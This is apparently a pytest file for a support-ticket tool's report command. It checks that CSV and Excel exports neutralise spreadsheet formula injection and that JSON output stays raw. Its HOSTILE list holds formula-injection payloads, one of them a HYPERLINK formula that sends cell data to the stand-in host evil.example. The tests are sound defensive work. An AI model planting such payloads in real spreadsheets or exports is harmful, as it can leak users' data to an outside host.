"""Exports meant for spreadsheets carry no live formula (issue 13, item 6): the console's
CSV and Excel exports and `report NAME --format csv|xlsx`; the CSV folder stays raw."""

from __future__ import annotations

import csv
import io
import json

import pytest

from tests.rules_helpers import NOW, D, agent, item, load, policy, run_raw, ts

HOSTILE = ['=HYPERLINK("http://evil.example/?x="&A1,"y")', "+1+2", "-2+3", "@SUM(A1:A9)",
           "\tcmd", "\rcmd"]


def test_safe_cell_neutralises_every_formula_trigger():
    from core.spreadsheet import safe_cell

    for text in HOSTILE:
        assert safe_cell(text) == "'" + text
    assert safe_cell("Refund - late") == "Refund - late"
    assert safe_cell("") == ""
    assert safe_cell(-3) == -3 and safe_cell(2.5) == 2.5 and safe_cell(None) is None


@pytest.fixture
def hostile_db(capsys, db_url, tmp_path):
    items = [item(f"i{n}", NOW - 3 * D, priority="high", assignee="a1", subject=subject)
             for n, subject in enumerate(HOSTILE)]
    load(capsys, db_url, tmp_path / "in", agents=[agent("a1"), agent("lead1", "lead")],
         items=items, policies=[policy("ticket", "high", 60, 240)])
    return db_url


def _report(capsys, db_url, *extra):
    return run_raw(capsys, "--db", db_url, "report", "breaches", "--now", ts(NOW), *extra)


def test_report_breaches_as_csv_has_no_live_formula_and_keeps_the_subject(capsys, hostile_db):
    code, out, err = _report(capsys, hostile_db, "--format", "csv")
    assert code == 0, err
    rows = list(csv.DictReader(io.StringIO(out)))
    assert sorted(r["subject"] for r in rows) == sorted("'" + s for s in HOSTILE)
    assert {r["item_id"] for r in rows} == {f"i{n}" for n in range(len(HOSTILE))}
    assert rows[0]["targets"] == "first_response;resolution"
    for row in rows:
        assert not any(v.startswith(("=", "+", "-", "@", "\t", "\r")) for v in row.values())


def test_report_breaches_as_xlsx_writes_text_cells(capsys, hostile_db, tmp_path):
    from openpyxl import load_workbook

    out = tmp_path / "breaches.xlsx"
    code, stdout, err = _report(capsys, hostile_db, "--format", "xlsx", "--out", out)
    assert code == 0, err
    assert stdout == ""
    sheet = load_workbook(out).active
    header = [c.value for c in sheet[1]]
    subjects = [row[header.index("subject")] for row in sheet.iter_rows(min_row=2)]
    assert all(cell.data_type == "s" for cell in subjects)
    # XML reads a carriage return inside text back as a line feed
    expected = sorted("'" + s.replace("\r", "\n") for s in HOSTILE)
    assert sorted(c.value for c in subjects) == expected
    overdue = [row[header.index("overdue_minutes")].value for row in sheet.iter_rows(min_row=2)]
    assert all(isinstance(v, int) and v > 0 for v in overdue)
    assert not list(tmp_path.glob("*.part"))


def test_json_stays_the_default_and_raw(capsys, hostile_db, tmp_path):
    code, out, err = _report(capsys, hostile_db)
    assert code == 0, err
    assert sorted(b["subject"] for b in json.loads(out)["breaches"]) == sorted(HOSTILE)
    code, out, err = _report(capsys, hostile_db, "--out", tmp_path / "b.json")
    assert code == 0 and out == ""
    assert json.loads((tmp_path / "b.json").read_text())["count"] == len(HOSTILE)


def test_a_scalar_report_is_one_row(capsys, hostile_db):
    code, out, err = run_raw(capsys, "--db", hostile_db, "report", "sla", "--now", ts(NOW),
                             "--format", "csv")
    assert code == 0, err
    rows = list(csv.DictReader(io.StringIO(out)))
    assert len(rows) == 1 and rows[0]["total_sla_tasks"] == str(len(HOSTILE))


def test_xlsx_without_out_and_unknown_format_are_usage_errors(capsys, hostile_db):
    code, out, err = _report(capsys, hostile_db, "--format", "xlsx")
    assert code == 2 and "--out" in err and out == ""
    code, _, err = _report(capsys, hostile_db, "--format", "ods")
    assert code == 2 and "ods" in err


def test_an_unwritable_out_file_is_bad_input(capsys, hostile_db, tmp_path):
    code, _, err = _report(capsys, hostile_db, "--format", "csv",
                           "--out", tmp_path / "missing" / "b.csv")
    assert code == 2 and "missing" in err and "Traceback" not in err


def test_the_csv_folder_export_stays_raw(capsys, hostile_db, tmp_path):
    code, _, err = run_raw(capsys, "--db", hostile_db, "export", tmp_path / "out")
    assert code == 0, err
    with (tmp_path / "out" / "items.csv").open(newline="", encoding="utf-8") as handle:
        subjects = sorted(r["subject"] for r in csv.DictReader(handle))
    assert subjects == sorted(HOSTILE)
